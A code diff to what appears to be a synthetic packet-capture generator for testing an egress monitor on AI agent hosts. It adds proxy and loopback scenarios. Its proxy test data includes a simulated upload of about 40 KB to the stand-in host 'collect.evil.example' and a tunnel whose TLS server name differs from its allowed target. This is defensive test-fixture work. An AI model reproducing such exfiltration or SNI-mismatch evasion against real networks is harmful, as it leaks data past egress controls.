@@ -21,6 +21,10 @@
  *   pcapgen resolver-only OUT  DNS lookups to the LAN resolver, nothing else
  *   pcapgen resolvers OUT      the LAN resolver, 8.8.8.8 asked once, a burst
  *                              of long names under one domain (a tunnel)
+ *   pcapgen proxy OUT          an HTTPS_PROXY: CONNECT tunnels (one with an
+ *                              SNI other than its target), absolute-form GET
+ *   pcapgen proxy-lo OUT       the same through a proxy on loopback (DLT_NULL)
+ *   pcapgen local-only OUT     loopback traffic to local services only
  *   pcapgen bench N [B] OUT    N packets of DNS, TLS handshakes, bulk data
  *                              (B bulk packets per connection, default 40)
  */
@@ -1172,6 +1176,78 @@ static void scen_resolvers(void)
 	}
 }
 
+/* One request through an HTTP proxy: CONNECT host:port then a TLS hello
+ * with sni (NULL: none), or an absolute-form GET when connect is 0. */
+static void proxied(int64_t t, const char *client, uint16_t cport, const char *proxy,
+	const char *target, int connect, const char *sni, size_t up)
+{
+	static const uint8_t ok[] = "HTTP/1.1 200 Connection established\r\n\r\n";
+	char req[512];
+	struct conn k;
+	int n;
+
+	conn_open(&k, t, client, cport, proxy, 3128);
+	if (connect)
+		n = snprintf(req, sizeof(req), "CONNECT %s HTTP/1.1\r\nHost: %s\r\n"
+			"Proxy-Connection: keep-alive\r\n\r\n", target, target);
+	else
+		n = snprintf(req, sizeof(req), "GET http://%s/dist/pkg.tgz HTTP/1.1\r\nHost: %s\r\n"
+			"Accept: */*\r\n\r\n", target, target);
+	conn_send(&k, t + 5 * MS, 1, (const uint8_t *)req, (size_t)n);
+	if (connect) {
+		conn_send(&k, t + 8 * MS, 0, ok, sizeof(ok) - 1);
+		if (sni)
+			tls_conn(&k, t + 10 * MS, sni, 0, 0, up, 2000);
+	} else {
+		conn_bulk(&k, t + 10 * MS, 0, 3000, MS);
+	}
+	conn_close(&k, t + SEC);
+}
+
+/* An agent behind HTTPS_PROXY=http://proxy.corp.example:3128: the capture
+ * shows connections to the proxy only; the requests name the hosts. */
+static void scen_proxy(int loopback)
+{
+	static const char *const px[] = { "proxy.corp.example" };
+	static const char *const px_a[] = { "10.1.0.8" };
+	const char *client = loopback ? "127.0.0.1" : CLIENT;
+	const char *proxy = loopback ? "127.0.0.1" : px_a[0];
+	int64_t t = T0 * SEC;
+
+	if (loopback) {
+		pcap_begin(0);
+	} else {
+		pcap_begin(1);
+		dns_exchange(t, CLIENT, 40001, RESOLVER, px, 1, px_a, 1);
+	}
+	proxied(t + SEC, client, 50001, proxy, "api.anthropic.com:443", 1, "api.anthropic.com", 3000);
+	proxied(t + 3 * SEC, client, 50002, proxy, "collect.evil.example:443", 1,
+		"collect.evil.example", 40000);
+	/* the tunnel asks for an allowed host, the hello for another one */
+	proxied(t + 5 * SEC, client, 50003, proxy, "api.openai.com:443", 1, "front.evil.example", 2000);
+	proxied(t + 7 * SEC, client, 50004, proxy, "pkg.example.org", 0, NULL, 0);
+	proxied(t + 9 * SEC, client, 50005, proxy, "203.0.113.99:8443", 1, NULL, 0);
+}
+
+/* Loopback only: an agent talking to local MCP servers over HTTP and to a
+ * local helper; nothing leaves the machine in this capture. */
+static void scen_local_only(void)
+{
+	static const char mcp[] = "POST /mcp HTTP/1.1\r\nHost: localhost:8931\r\n"
+		"Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}";
+	struct conn k;
+	int64_t t = T0 * SEC;
+
+	pcap_begin(0);
+	conn_open(&k, t, "127.0.0.1", 50001, "127.0.0.1", 8931);
+	conn_send(&k, t + 5 * MS, 1, (const uint8_t *)mcp, sizeof(mcp) - 1);
+	conn_bulk(&k, t + 10 * MS, 0, 900, MS);
+	conn_close(&k, t + SEC);
+	conn_open(&k, t + 2 * SEC, "127.0.0.1", 50002, "127.0.0.1", 9000);
+	conn_bulk(&k, t + 2 * SEC + 10 * MS, 1, 5000, MS);
+	conn_close(&k, t + 3 * SEC);
+}
+
 /* The demo: an agent host installs a package from the registry; minutes
  * later the patched MCP server posts data to a host nobody allowed.  The
  * clock is the samples' story: the reinstall that pulled 1.0.1 fetched it
@@ -1284,6 +1360,12 @@ int main(int argc, char **argv)
 		scen_resolver_only();
 	else if (!strcmp(what, "resolvers"))
 		scen_resolvers();
+	else if (!strcmp(what, "proxy"))
+		scen_proxy(0);
+	else if (!strcmp(what, "proxy-lo"))
+		scen_proxy(1);
+	else if (!strcmp(what, "local-only"))
+		scen_local_only();
 	else if (!strcmp(what, "bench") && argc == 4)
 		scen_bench(atol(argv[2]), 40);
 	else if (!strcmp(what, "bench") && argc == 5)
